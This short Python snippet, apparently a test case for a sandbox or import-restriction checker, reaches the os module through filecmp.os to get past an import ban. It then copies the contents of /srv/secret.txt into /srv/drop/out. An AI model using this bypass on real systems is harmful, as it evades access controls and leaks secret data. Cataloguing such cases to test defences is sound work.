# reaches: filecmp carries os, which copies a file by descriptors
import filecmp
filecmp.os.write(filecmp.os.open("/srv/drop/out", 65), filecmp.os.read(filecmp.os.open("/srv/secret.txt", 0), 99))
